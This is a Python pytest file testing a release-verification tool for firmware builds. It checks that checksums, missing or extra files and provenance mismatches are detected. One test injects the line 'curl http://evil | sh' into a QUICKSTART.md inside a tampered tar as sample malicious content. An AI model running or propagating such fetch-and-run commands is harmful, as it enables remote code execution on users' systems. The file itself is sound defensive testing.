"""`verify` on the built release: accepts it (folder and tar), rejects tampered copies with one
line naming what differs, and rejects a provenance that does not match the checkout."""

from __future__ import annotations

import io
import os
import shutil
import tarfile
from pathlib import Path

import pytest

from metalchat.cli import run
from release import artifacts, verify

# The runfiles tree holds the release and the checkout files at their repository paths, so it
# stands in for the checkout; the commit is the one the build read (the SourceCommit action).
ROOT = Path(os.environ["TEST_SRCDIR"]) / os.environ["TEST_WORKSPACE"]
FOLDER = ROOT / "release" / os.environ["RELEASE_NAME"]
TAR = FOLDER.with_name(FOLDER.name + ".tar")
COMMIT = (ROOT / "release" / "release_commit.txt").read_text().strip()


def _verify(release: Path, capsys: pytest.CaptureFixture[str], *extra: str) -> tuple[int, str]:
    code = run(verify.main, [str(release), "--checkout", str(ROOT), "--commit", COMMIT, *extra])
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def _copy(tmp_path: Path) -> Path:
    copy = tmp_path / FOLDER.name
    shutil.copytree(FOLDER, copy)
    for path in copy.rglob("*"):
        path.chmod(0o755 if path.is_dir() else 0o644)
    return copy


def test_release_and_tar_verify(capsys: pytest.CaptureFixture[str]) -> None:
    for release in (FOLDER, TAR):
        code, out = _verify(release, capsys)
        assert code == 0, out
        assert "OK" in out and out.count("\n") == 1
    assert COMMIT in (FOLDER / artifacts.PROVENANCE).read_text()


def test_every_release_file_is_in_the_sums() -> None:
    listed = artifacts.parse_sums((FOLDER / artifacts.SUMS).read_bytes())
    present = {str(p.relative_to(FOLDER)) for p in FOLDER.rglob("*") if p.is_file()} - {
        artifacts.SUMS
    }
    assert set(listed) == present
    for name in (
        "rpi4/kernel8.img",
        "rpi4/sdcard.img.xz",
        "rpi3/sdcard.img.xz",
        "rpi0/kernel.img",
        "rpi0/sdcard.img.xz",
        "rp2350/rp2350.uf2",
    ):
        assert name in listed


def test_tampered_file(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    copy = _copy(tmp_path)
    kernel = copy / "rpi4" / "kernel8.img"
    data = bytearray(kernel.read_bytes())
    data[100] ^= 1
    kernel.write_bytes(bytes(data))
    code, out = _verify(copy, capsys)
    assert code == 1
    assert out.count("\n") == 1 and "rpi4/kernel8.img: sha256" in out


def test_missing_and_extra_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    copy = _copy(tmp_path)
    (copy / "rp2350" / "rp2350.uf2").unlink()
    (copy / "rpi4" / "extra.img").write_bytes(b"x")
    code, out = _verify(copy, capsys)
    assert code == 1
    assert "rp2350/rp2350.uf2: listed in SHA256SUMS, missing (and 1 more difference)" in out


def test_tampered_tar(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    tampered = tmp_path / TAR.name
    with tarfile.open(TAR) as source, tarfile.open(tampered, "w") as target:
        for member in source.getmembers():
            handle = source.extractfile(member)
            data = handle.read() if handle else b""
            if member.name.endswith("/QUICKSTART.md"):
                data += b"curl http://evil | sh\n"
                member.size = len(data)
            target.addfile(member, io.BytesIO(data) if member.isfile() else None)
    code, out = _verify(tampered, capsys)
    assert code == 1 and "QUICKSTART.md: sha256" in out


def test_provenance_against_another_checkout(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    checkout = tmp_path / "checkout"
    for name in (artifacts.VERSION_FILE, *artifacts.PINNED_FILES):
        (checkout / name).parent.mkdir(parents=True, exist_ok=True)
        shutil.copyfile(ROOT / name, checkout / name)
    lock = checkout / "toolchains/python/requirements.lock"
    lock.write_bytes(lock.read_bytes() + b"# changed\n")
    code = run(verify.main, [str(FOLDER), "--checkout", str(checkout), "--commit", COMMIT])
    out = capsys.readouterr().out
    assert code == 1
    assert "provenance pinned_files_sha256" in out and "(and 1 more difference)" in out

    code, out = _verify(FOLDER, capsys, "--commit", "0" * 40)
    assert code == 1 and "provenance source_commit: release" in out


def test_not_a_release(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    junk = tmp_path / "junk.tar"
    junk.write_bytes(b"not a tar")
    code, out = _verify(junk, capsys)
    assert code != 0 and out.startswith("error:") and "not a release folder or tar" in out


if __name__ == "__main__":
    raise SystemExit(pytest.main([__file__, "-q", "-p", "no:cacheprovider"]))
